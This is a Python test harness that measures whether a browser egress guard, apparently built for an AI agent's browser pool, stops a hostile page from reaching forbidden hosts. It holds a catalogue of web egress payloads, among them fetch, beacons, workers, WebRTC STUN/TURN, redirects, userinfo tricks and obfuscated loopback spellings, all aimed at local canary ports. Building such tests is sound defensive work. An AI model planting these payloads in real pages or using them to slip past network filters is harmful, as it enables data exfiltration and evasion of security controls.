"""Attempts of a hostile page to reach a forbidden server, with the egress guard and without: `python -m perf.egress`.

Every attempt has a canary of its own: a port on loopback on which any connection or datagram is a hit. The page comes
from an allowed host; the canaries' ports are not allowed. Without the guard, more than ten attempts must succeed, or
the corpus proves nothing.

Two attacks are not part of the corpus, because no canary could notice them: DNS prefetch (the browser resolves no name
behind the guard), and names that change their address between two look-ups (`tests/browser/test_egress.py`).

Last line: JSON with attempts, hits_guarded, hits_unguarded.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json

from components.browser import BrowserPool, EnvError, check_call
from components.params import BrowserParams, EgressParams
from components.records import Task

SITE = "127.0.0.1"

# `CANARY` stands for the address of the attempt's canary, `HOST` for its host:port, and `HOP` for a redirect to it.
TAGS = {
    "image": '<img src="CANARY">',
    "image set": '<img srcset="CANARY 1x">',
    "picture in svg": '<svg><image href="CANARY" width=9 height=9 /></svg>',
    "input image": '<input type=image src="CANARY">',
    "frame": '<iframe src="CANARY"></iframe>',
    "frame srcdoc": "<iframe srcdoc=\"<img src='CANARY'>\"></iframe>",
    "frame of data": "<iframe src=\"data:text/html,<img src='CANARY'>\"></iframe>",
    "object": '<object data="CANARY"></object>',
    "embed": '<embed src="CANARY">',
    "video": '<video src="CANARY" autoplay></video>',
    "audio": '<audio src="CANARY" autoplay></audio>',
    "video poster": '<video poster="CANARY"></video>',
    "script": '<script src="CANARY"></script>',
    "module": '<script type=module src="CANARY"></script>',
    "stylesheet": '<link rel=stylesheet href="CANARY">',
    "css import": '<style>@import "CANARY";</style>',
    "css background": '<div style="background:url(CANARY);height:9px">x</div>',
    "css font": "<style>@font-face{font-family:f;src:url(CANARY)} p{font-family:f}</style><p>text",
    "css cursor": '<style>html{cursor:url("CANARY"),auto;list-style-image:url(CANARY)}</style><ul><li>x</ul>',
    "icon": '<link rel=icon href="CANARY">',
    "manifest": '<link rel=manifest href="CANARY">',
    "preconnect": '<link rel=preconnect href="CANARY">',
    "prefetch": '<link rel=prefetch href="CANARY">',
    "preload": '<link rel=preload as=image href="CANARY">',
    "module preload": '<link rel=modulepreload href="CANARY">',
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["CANARY"]}]}</script>',
    "meta refresh": '<meta http-equiv=refresh content="0;url=CANARY">',
    "redirected image": '<img src="HOP">',
    "redirected frame": '<iframe src="HOP"></iframe>',
    "redirected stylesheet": '<link rel=stylesheet href="HOP">',
    "policy report": '<img src="data:image/png;base64,AAAA">',
    "link header": "<p>the header tries",
}
SCRIPTS = {
    "navigation": "location.href='CANARY'",
    "redirected navigation": "location.href='HOP'",
    "fetch": "fetch('CANARY')",
    "fetch no-cors": "fetch('CANARY',{mode:'no-cors'})",
    "redirected fetch": "fetch('HOP',{mode:'no-cors'})",
    "request": "const x=new XMLHttpRequest();x.open('GET','CANARY');x.send()",
    "dynamic import": "import('CANARY')",
    "event source": "new EventSource('CANARY')",
    "beacon": "navigator.sendBeacon('CANARY','x')",
    "kept alive": "fetch('CANARY',{keepalive:true,method:'POST',mode:'no-cors',body:'x'});location='about:blank'",
    "ping": "const a=document.createElement('a');a.href='#';a.ping='CANARY';document.body.append(a);a.click()",
    "form": "const f=document.createElement('form');f.action='CANARY';document.body.append(f);f.submit()",
    "redirected form": "const f=document.createElement('form');f.action='HOP';document.body.append(f);f.submit()",
    "window": "open('CANARY')",
    "redirected window": "open('HOP')",
    "websocket": "new WebSocket('ws://HOST/')",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('CANARY',{mode:'no-cors'})`])))",
    "worker script": "new Worker(URL.createObjectURL(new Blob([`importScripts('CANARY')`])))",
    "websocket in worker": "new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://HOST/')`])))",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('CANARY',{mode:'no-cors'})`])))",
    "service worker": "navigator.serviceWorker.register('/worker.js?to='+encodeURIComponent('CANARY'))",
    "frame of blob": "const i=document.createElement('iframe');i.src=URL.createObjectURL(new Blob"
    "([`<img src='CANARY'>`],{type:'text/html'}));document.body.append(i)",
    "script in data": "document.body.innerHTML=`<iframe src=\"data:text/html,<script>fetch('CANARY',{mode:'no-cors'})"
    '</script>"></iframe>`',
    "paint worklet": "CSS.paintWorklet.addModule('CANARY')",
    "audio worklet": "new AudioContext().audioWorklet.addModule('CANARY')",
    "stun": "const p=new RTCPeerConnection({iceServers:[{urls:'stun:HOST'}]});p.createDataChannel('x');"
    "p.createOffer().then(o=>p.setLocalDescription(o))",
    "turn over tcp": "const p=new RTCPeerConnection({iceServers:[{urls:'turn:HOST?transport=tcp',username:'u',"
    "credential:'c'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))",
    "web transport": "new WebTransport('https://HOST/')",
    "userinfo": "fetch('http://trusted.example@HOST/',{mode:'no-cors'});location='http://trusted.example@HOST/'",
}
SPELLINGS = {
    "octal": "0177.0.0.1",
    "hexadecimal": "0x7f000001",
    "decimal": "2130706433",
    "short": "127.1",
    "zero": "0.0.0.0",
    "other loopback": "127.0.0.2",
    "mapped in IPv6": "[::ffff:127.0.0.1]",
    "localhost": "localhost",
    "localhost with a dot": "localhost.",
    "name under localhost": "a.localhost",
}


class Canary(asyncio.DatagramProtocol):
    """A port on which any connection or datagram is a hit."""

    def __init__(self) -> None:
        self.hits = 0
        self.port = 0
        self._open: list[asyncio.BaseTransport | asyncio.Server] = []

    async def listen(self) -> None:
        """Listen for connections and datagrams on a free port."""
        server = await asyncio.start_server(self._hit, "0.0.0.0", 0)
        self.port = server.sockets[0].getsockname()[1]
        transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
            lambda: self, local_addr=("127.0.0.1", self.port)
        )
        self._open = [server, transport]

    def datagram_received(self, data: bytes, addr: object) -> None:
        """Count a datagram."""
        self.hits += 1

    async def _hit(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.hits += 1
        with contextlib.suppress(OSError):
            writer.write(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n")
            writer.close()

    def close(self) -> None:
        """Stop listening."""
        for endpoint in self._open:
            endpoint.close()


class Site:
    """The hostile site: a page per attempt, the redirects, and the service worker."""

    def __init__(self) -> None:
        self.pages: dict[str, tuple[str, str]] = {}
        """Page and extra headers by path."""
        self.hops: dict[str, str] = {}
        """Redirect targets by path."""
        self.port = 0

    async def listen(self) -> asyncio.Server:
        """Serve on a free port."""
        server = await asyncio.start_server(self._serve, SITE, 0)
        self.port = server.sockets[0].getsockname()[1]
        return server

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError, IndexError):
            head = await reader.readuntil(b"\r\n\r\n")
            path = head.split(b" ")[1].decode().rstrip("?")
            if path in self.hops:
                writer.write(f"HTTP/1.1 307 Away\r\nLocation: {self.hops[path]}\r\nContent-Length: 0\r\n\r\n".encode())
            else:
                kind = "text/javascript" if path.startswith("/worker.js") else "text/html"
                worker = "fetch(new URL(location).searchParams.get('to'),{mode:'no-cors'})"
                body, headers = (worker, "") if kind == "text/javascript" else self.pages.get(path, ("", ""))
                data = body.encode()
                writer.write(
                    f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(data)}\r\n{headers}"
                    "Connection: close\r\n\r\n".encode()
                    + data
                )
            await writer.drain()
            writer.close()


def attempts() -> dict[str, tuple[str, str]]:
    """The attempts by name: page, and spelling of the canary's host."""
    pages = {name: (tag, SITE) for name, tag in TAGS.items()}
    pages |= {name: (f"<script>{script}</script>", SITE) for name, script in SCRIPTS.items()}
    for name, host in SPELLINGS.items():
        pages[f"spelling: {name}"] = "<script>fetch('CANARY',{mode:'no-cors'})</script><img src='CANARY'>", host
    return pages


def filled(page: str, url: str, host: str, hop: str) -> str:
    """A page with the addresses filled in."""
    return page.replace("CANARY", url).replace("HOST", host).replace("HOP", hop)


async def try_all(guard: bool, linger_s: float) -> list[str]:
    """The names of the attempts whose canary was hit."""
    site, canaries = Site(), {}
    server = await site.listen()
    for number, (name, (page, host)) in enumerate(attempts().items()):
        canary = canaries[name] = Canary()
        await canary.listen()
        url = f"http://{host}:{canary.port}/hit"
        site.hops[f"/hop/{number}"] = url
        headers = {
            "policy report": f"Content-Security-Policy: img-src 'none'; report-uri {url}\r\n",
            "link header": f"Link: <{url}>; rel=preload; as=image\r\nRefresh: 0;url={url}\r\n",
        }.get(name, "")
        hop = f"http://{SITE}:{site.port}/hop/{number}"
        body = filled(page, url, f"{host}:{canary.port}", hop)
        site.pages[f"/{number}"] = f"<!DOCTYPE html><title>x</title><body>{body}</body>", headers
    egress = EgressParams(guard=guard, private_hosts=[f"{SITE}:{site.port}"])
    params = BrowserParams(viewport=(400, 300), concurrency=4, settle_ms=500, egress=egress)

    async def visit(pool: BrowserPool, number: int) -> None:
        url = f"http://{SITE}:{site.port}/{number}"
        async with pool.session() as session:
            with contextlib.suppress(EnvError):
                await session.start(Task(task_id="t", intent="x", start_url=url, website="x", source="x"))
                await session.step(
                    [check_call("click", {"x": 500, "y": 500}), check_call("wait", {"seconds": linger_s})]
                )

    async with BrowserPool(params) as pool:
        await asyncio.gather(*(visit(pool, number) for number in range(len(canaries))))
    hit = [name for name, canary in canaries.items() if canary.hits]
    for canary in canaries.values():
        canary.close()
    server.close()
    return hit


def main() -> None:
    """Try all attempts with and without the guard, and print the hits."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--linger", type=float, default=1.5, help="seconds that each page gets for its attempt")
    linger_s = parser.parse_args().linger
    guarded, unguarded = (asyncio.run(try_all(guard, linger_s)) for guard in (True, False))
    print(f"through the guard: {guarded or 'none'}")
    print(f"without it: {unguarded}")
    print(
        json.dumps({"attempts": len(attempts()), "hits_guarded": len(guarded), "hits_unguarded": len(unguarded)}),
        flush=True,
    )


if __name__ == "__main__":
    main()
